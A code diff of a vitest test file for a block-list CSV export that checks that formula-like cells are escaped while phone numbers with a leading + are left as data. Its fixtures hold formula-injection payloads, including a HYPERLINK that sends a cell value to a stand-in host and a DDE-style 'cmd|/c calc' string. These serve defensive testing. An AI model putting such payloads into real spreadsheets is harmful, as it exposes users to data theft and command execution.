@@ -1,13 +1,22 @@
 import { describe, expect, it } from 'vitest';
-import { blockListCsv, blockListRows } from '../../src/services/export.service.js';
+import { blockListCsv, blockListRows, neutraliseFormula } from '../../src/services/export.service.js';
 
 describe('block list CSV', () => {
+  it('quotes what a spreadsheet would evaluate, and nothing else', () => {
+    for (const formula of ['=1+1', '@SUM(A1)', '+A1*2', '-2+3;cmd', '\tx', '\rx', '=HYPERLINK("x")']) {
+      expect(neutraliseFormula(formula)).toBe(`'${formula}`);
+    }
+    for (const data of ['+919876543210', '-5', '9876543210', 'Mumbai', 'key:12', 'a=b']) {
+      expect(neutraliseFormula(data)).toBe(data);
+    }
+  });
+
   it('neutralises cells a spreadsheet would run as a formula, and leaves the rest as they are', () => {
     const rows = blockListRows(
       [
         {
           candidateId: 1,
-          msisdn: '9876543210',
+          msisdn: '+919876543210',
           operator: 'JIO',
           lsa: '=HYPERLINK("http://x.invalid/?"&A1,"click")',
           reasons: ['SIM_CAP_EXCEEDED'],
@@ -27,7 +36,8 @@ describe('block list CSV', () => {
     );
     expect(line).toContain(`"'=HYPERLINK(""http://x.invalid/?""&A1,""click"")"`);
     expect(line).toContain(`"'@SUM(1+1)*cmd|""/c calc""!A0"`);
-    expect(line!.startsWith('9876543210,JIO,')).toBe(true);
+    // A phone number with its + is data, not a formula.
+    expect(line!.startsWith('+919876543210,JIO,')).toBe(true);
     expect(line).toContain(',SIM_CAP_EXCEEDED,7,exported,analysis,');
   });
 });
